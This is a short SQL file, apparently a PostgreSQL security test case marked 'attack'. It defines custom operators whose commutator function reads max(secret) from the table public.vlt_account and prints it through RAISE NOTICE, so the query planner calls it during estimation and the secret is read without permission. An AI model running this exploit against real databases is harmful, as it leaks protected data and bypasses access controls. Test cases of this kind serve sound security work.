-- Has the planner estimate an own operator by its commutator, which reads.
-- wants: read
-- attack:
CREATE FUNCTION lesser(int, int) RETURNS boolean LANGUAGE plpgsql AS 'BEGIN RETURN $1 < $2; END';
CREATE FUNCTION greater(int, int) RETURNS boolean LANGUAGE plpgsql AS $$
  BEGIN RAISE NOTICE '%', (SELECT max(secret) FROM public.vlt_account); RETURN $1 > $2; END $$;
CREATE OPERATOR <<< (LEFTARG = int, RIGHTARG = int, FUNCTION = lesser, COMMUTATOR = >>>, RESTRICT = scalarltsel);
CREATE OPERATOR >>> (LEFTARG = int, RIGHTARG = int, FUNCTION = greater, COMMUTATOR = <<<, RESTRICT = scalargtsel);
CREATE TABLE mine AS SELECT n % 5 AS n FROM generate_series(1, 1000) n;
ANALYZE mine;
SELECT count(*) FROM mine WHERE 3 <<< n;
